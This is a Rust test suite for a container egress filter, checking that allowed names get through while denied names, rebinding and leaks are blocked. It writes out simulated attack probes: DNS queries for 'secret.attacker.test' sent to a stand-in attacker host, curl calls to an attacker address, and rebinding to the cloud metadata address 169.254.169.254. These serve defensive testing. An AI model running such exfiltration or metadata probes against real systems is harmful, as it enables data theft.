//! What gets out and what doesn't, from a container with Docker's default flags: the answer, how
//! fast it comes, and what the wire saw.

use test_support::bed::{Bed, Capture, records, unique};
use test_support::docker::Container;
use test_support::harness::Test;
use test_support::hosts::{ALLOWED, ATTACKER, DENIED, RESOLVER, WILD};
use test_support::wire::{leaks, must_show_allowed_traffic};

pub(crate) const TESTS: &[Test] = &[
    ("an_allowed_name_works_over_http_and_https", allowed_name),
    ("a_name_below_a_wildcard_works", wildcard),
    (
        "the_real_server_answers_whatever_address_the_client_chose",
        real_server,
    ),
    (
        "a_denied_name_gets_a_403_that_names_the_host_and_the_rule",
        forbidden_page,
    ),
    (
        "a_name_that_resolves_to_a_special_range_is_refused",
        rebinding,
    ),
    (
        "everything_else_fails_fast_and_not_one_packet_leaves",
        everything_else,
    ),
    ("what_is_never_open_stays_shut_in_observe_mode", observed),
    ("rules_for_ports_protocols_and_ranges_open_just_that", ports),
    ("a_restarted_container_is_filtered", restarted),
    ("large_transfers_arrive_whole", large),
    ("a_greeting_comes_as_soon_as_without_a_filter", greeting),
];

fn allowed_name(bed: &Bed) {
    for url in [
        "http://allowed.test/",
        "https://allowed.test/",
        "-4 https://allowed.test/",
        "-6 http://allowed.test/",
    ] {
        let answer = bed.run(&[], &format!("curl -sS -m 5 {url}"));
        assert!(
            answer.stdout.contains("I am allowed.test"),
            "{url}: {answer:?}"
        );
    }
}

fn wildcard(bed: &Bed) {
    let answer = bed.run(&[], "curl -sS -m 5 https://deep.below.wild.test/");
    assert!(answer.must_succeed().stdout.contains(WILD.name));
}

/// The client names the attacker's address; the filter resolves the name itself and never dials
/// what the client chose.
fn real_server(bed: &Bed) {
    // Containers' addresses are masqueraded, so the path tells whose visit it was.
    let path = unique("visit");
    for url in [
        format!("--resolve allowed.test:443:203.0.113.66 https://allowed.test/{path}"),
        format!("-H Host:allowed.test http://203.0.113.66/{path}"),
    ] {
        let answer = bed.run(&[], &format!("curl -sS -m 5 {url}"));
        assert!(
            answer.stdout.contains("I am allowed.test"),
            "{url}: {answer:?}"
        );
    }
    let log = bed.internet_log();
    let visits: Vec<&str> = log.lines().filter(|line| line.contains(&path)).collect();
    assert!(
        !visits.is_empty() && !visits.iter().any(|line| line.contains("203.0.113.66")),
        "{visits:#?}"
    );
}

fn forbidden_page(bed: &Bed) {
    let script = "curl -sS -m 5 -o /tmp/page -w '%{http_code} %{time_total}' --resolve denied.test:80:198.51.100.20 \
                  http://denied.test/secret; echo; cat /tmp/page";
    let said = bed.run(&[], script).must_succeed().stdout.clone();
    let (status, page) = said.split_once('\n').unwrap();
    assert!(status.starts_with("403 0.0"), "{status}");
    assert!(
        page.contains("denied.test") && page.contains("domain=denied.test"),
        "{page}"
    );
}

fn rebinding(bed: &Bed) {
    let container = bed.sleeper(&[]);
    for (name, address) in [
        ("metadata.rebind.test", "169.254.169.254"),
        ("loopback.rebind.test", "127.0.0.1"),
        ("private.rebind.test", "10.1.2.3"),
    ] {
        // To an address beyond: what leads to loopback would never leave the container.
        let answer = container.exec(&format!(
            "curl -sS -m 5 --resolve {name}:80:198.51.100.10 http://{name}/"
        ));
        let page = &answer.must_succeed().stdout;
        assert!(
            page.starts_with("{\"error\":\"denied: ")
                && page.contains(&format!("{name} leads to {address}")),
            "{answer:?}"
        );
        assert!(answer.took.as_secs() < 5, "{name}: {:?}", answer.took);
    }
}

/// The host counts what comes its way for these addresses: from a container, and, where that has the host's
/// network, from the gateway.
fn observed(bed: &Bed) {
    const METADATA: &str = "169.254.169.254";
    const LOOPBACK: &str = "127.0.0.1";
    /// The host's own, on its way out.
    const HOST: &str = "192.0.2.1";
    let chain = unique("observed");
    let bash = |script: &str| {
        let said = bed.exec(&["bash", "-c", script]);
        said.must_succeed().stdout.clone()
    };
    let bridge = bash("ip -4 -o address show docker0 | grep -o '[0-9.]*/' | tr -d /");
    let bridge = bridge.trim();
    let broadcast = bash("ip -4 -o address show docker0 | grep -o 'brd [0-9.]*' | cut -c5-");
    let broadcast = broadcast.trim();
    let both = |change: &str| {
        bash(&format!(
            "for from in PREROUTING OUTPUT; do iptables -w -t raw {change} $from -j {chain}; done"
        ))
    };
    bash(&format!(
        "iptables -w -t raw -N {chain}
         for to in {bridge} {METADATA} {LOOPBACK} {HOST}; do iptables -w -t raw -A {chain} -d $to -p tcp --dport 8077; done"
    ));
    both("-I");
    let counted = || {
        let list = bash(&format!("iptables -w -t raw -nvxL {chain} | tail -n 4"));
        let counts = list
            .lines()
            .map(|line| line.split_whitespace().next() != Some("0"));
        counts.collect::<Vec<_>>()
    };
    // What was denied; what no rule allows, and could, passes.
    let knocks = |runtime: &str, network: &str| {
        let container = bed.start_with(runtime, &["--network", network], &["sleep", "600"]);
        let script = format!(
            "for url in http://metadata.rebind.test:8077/ http://loopback.rebind.test:8077/; do
               curl -s -m 5 $url; host=${{url#http://}}
               curl -s -m 5 --resolve ${{host%/}}:198.51.100.10 $url
             done
             curl -s -m 5 --resolve nobody.test:80:{METADATA} http://nobody.test/
             attacker send udp {broadcast}:8077 words >&2
             attacker knock 3 {METADATA}:8077 {HOST}:8077 {bridge}:8077 >&2
             curl -sS -4 -m 5 http://allowed.test/"
        );
        let said = container.exec(&script);
        assert!(said.stdout.contains("I am allowed.test"), "{said:?}");
        let lines = records(bed, &container.id());
        let denied = lines.into_iter().filter(|line| line["verdict"] == "deny");
        denied.collect::<Vec<_>>()
    };
    for network in ["bridge", "host"] {
        let denied = knocks("boundary-session-unread", network);
        let is_told = |address: &str, why: &str| {
            denied.iter().any(|line| {
                line["address"] == address
                    && line["suggestion"].is_null()
                    && line["reason"].as_str().unwrap().contains(why)
            })
        };
        assert!(denied.len() >= 3, "{network}: {denied:#?}");
        let is_told_in_a_name = denied.iter().any(|line| {
            line["name"] == "nobody.test"
                && line["reason"]
                    .as_str()
                    .unwrap()
                    .starts_with("169.254.169.254 is link-local")
        });
        assert!(is_told_in_a_name, "{network}: {denied:#?}");
        assert!(is_told(HOST, "its host's own"), "{network}: {denied:#?}");
        assert!(
            network == "host" || is_told(broadcast, "broadcast"),
            "{denied:#?}"
        );
        // The bridge's address is a private one, as a neighbour's.
        assert_eq!(counted(), [true, false, false, false], "{network}");
    }
    knocks("runc", "bridge");
    assert_eq!(counted(), [true, true, false, true], "without a filter");
    knocks("runc", "host");
    assert_eq!(counted(), [true; 4]);
    both("-D");
    bash(&format!(
        "iptables -w -t raw -F {chain}; iptables -w -t raw -X {chain}"
    ));
}

fn everything_else(bed: &Bed) {
    let container = bed.sleeper(&[]);
    nothing_leaks_while(bed, &container, || denied_probes(&container));
}

/// Runs hostile acts while the wire is watched; ends with an allowed request, which must be on the
/// capture: a capture that sees nothing would prove nothing.
pub(crate) fn nothing_leaks_while(bed: &Bed, container: &Container<'_>, acts: impl FnOnce()) {
    let capture = Capture::start(bed, &container.uplink(), "in");
    acts();
    let last = container.exec("curl -4 -sS -m 5 http://allowed.test/");
    let packets = capture.stop();
    assert_eq!(leaks(&packets), Vec::<&str>::new());
    last.must_succeed();
    must_show_allowed_traffic(&packets);
}

/// Every polite way out that the policy doesn't allow: what the client sees, within which time.
pub(crate) fn denied_probes(container: &Container<'_>) {
    let (denied, attacker, resolver) = (DENIED, ATTACKER, RESOLVER);
    let probes = [
        format!("probe tcp {}:22", denied.v4),
        format!("probe tcp {}:5432", attacker.v4),
        format!("probe tcp {}:8080", ALLOWED.v4),
        format!("probe tcp [{}]:22", denied.v6),
        format!("probe udp {}:9999", attacker.v4),
        format!("probe udp {}:443", ALLOWED.v4),
        format!("probe udp [{}]:9999", attacker.v6),
        format!("probe icmp {}", denied.v4),
        format!("probe icmp {}", denied.v6),
        format!("dns udp {}:53 secret.denied.test", resolver.v4),
        format!("dns udp {}:53 secret.attacker.test", attacker.v4),
        format!("dns udp [{}]:53 secret.attacker.test", attacker.v6),
        format!("dns tcp {}:53 secret.attacker.test", attacker.v4),
        format!("dns tcp [{}]:53 secret.denied.test", resolver.v6),
    ];
    for probe in &probes {
        let said = container
            .exec(&format!("attacker {probe}"))
            .must_succeed()
            .stdout
            .clone();
        let (outcome, milliseconds) = said.trim().rsplit_once(' ').unwrap();
        let milliseconds: u64 = milliseconds.parse().unwrap();
        // A name that is not let through does not exist: every resolver library gives up on that at
        // once.
        let expected: &[&str] = if probe.starts_with("dns") {
            &["nxdomain"]
        } else {
            &["refused", "unreachable", "prohibited"]
        };
        assert!(expected.contains(&outcome), "{probe}: {said}");
        // Nothing had to be repeated, which takes a second.
        assert!(milliseconds < 1000, "{probe}: {said}");
    }
    // Connections to web ports are taken, to be read, and then ended.
    for url in [
        "https://denied.test/ --resolve denied.test:443:198.51.100.20",
        "https://denied.test/ --resolve denied.test:443:198.51.100.10",
        "https://[2001:db8:1::20]/",
        "https://203.0.113.66/",
    ] {
        let answer = container.exec(&format!("curl -ksS -m 5 -w '%{{time_total}}' {url}"));
        let seconds: f64 = answer.must_fail().stdout.trim().parse().unwrap();
        assert!(seconds < 1.0, "{url}: {seconds} s, {}", answer.stderr);
    }
    let bare = container
        .exec("curl -sS -m 5 -o /dev/null -w '%{http_code}' http://203.0.113.66/")
        .stdout;
    assert_eq!(bare, "403");
}

fn ports(bed: &Bed) {
    let container = bed.start_with("boundary-ports", &[], &["sleep", "600"]);
    let outcome = |probe: &str| {
        let said = container
            .exec(&format!("attacker probe {probe}"))
            .must_succeed()
            .stdout
            .clone();
        said.split(' ').next().unwrap().to_owned()
    };
    // Rules by name hold for the addresses that this container was told for the name.
    container.exec("nslookup allowed.test").must_succeed();
    assert_eq!(outcome(&format!("tcp {}:22", ALLOWED.v4)), "connected");
    assert_eq!(outcome(&format!("udp {}:9999", ALLOWED.v4)), "answered");
    assert_eq!(outcome(&format!("tcp {}:5432", WILD.v4)), "connected");
    assert!(
        !is_cut(&container, &format!("tcp {}:5432", WILD.v4)),
        "what is open looks shut: nothing could be told apart"
    );
    let shut = [
        "tcp 198.51.100.20:22",
        "tcp 198.51.100.10:5432",
        "udp 198.51.100.30:9999",
        "tcp 198.51.100.30:8080",
    ];
    for probe in shut {
        if outcome(probe) == "connected" {
            assert!(is_cut(&container, probe), "{probe}");
        } else {
            container.is_shut_out(probe);
        }
    }
}

/// A captured port is accepted before it is judged: then the connection must end without a byte
/// from the other side.
fn is_cut(container: &Container<'_>, probe: &str) -> bool {
    let Some(target) = probe.strip_prefix("tcp ") else {
        return false;
    };
    let target = target.replace(':', " ");
    container
        .exec(&format!("echo hello | timeout 3 nc {target}"))
        .stdout
        .is_empty()
}

fn restarted(bed: &Bed) {
    let container = bed.sleeper(&[]);
    for verb in [
        &["restart", "--time", "0"][..],
        &["stop", "--time", "0"],
        &["start"],
    ] {
        bed.docker(&[verb, &[&container.name]].concat())
            .must_succeed();
    }
    nothing_leaks_while(bed, &container, || denied_probes(&container));
}

fn large(bed: &Bed) {
    let answer = bed.run(
        &[],
        "curl -sS -m 30 https://allowed.test/bytes/20000000 | wc -c",
    );
    assert_eq!(answer.must_succeed().stdout.trim(), "20000000");
}

/// A server that speaks first, and a client that waits for it, as with SSH, SMTP and MySQL: medians
/// of real time, side by side.
fn greeting(bed: &Bed) {
    let median = |runtime: &str| -> u64 {
        let container = bed.start_with(runtime, &[], &["sleep", "600"]);
        container.exec("nslookup allowed.test").must_succeed();
        let probe = format!(
            "for i in $(seq 9); do attacker probe greeting {}:22; done",
            ALLOWED.v4
        );
        let said = container.exec(&probe).must_succeed().stdout.clone();
        let mut times: Vec<u64> = said
            .lines()
            .map(|line| line.strip_prefix("heard ").unwrap().parse().unwrap())
            .collect();
        times.sort_unstable();
        times[times.len() / 2]
    };
    let (with, without) = (median("boundary-ports"), median("runc"));
    assert!(with <= without + 50, "{with} ms, {without} ms without");
}
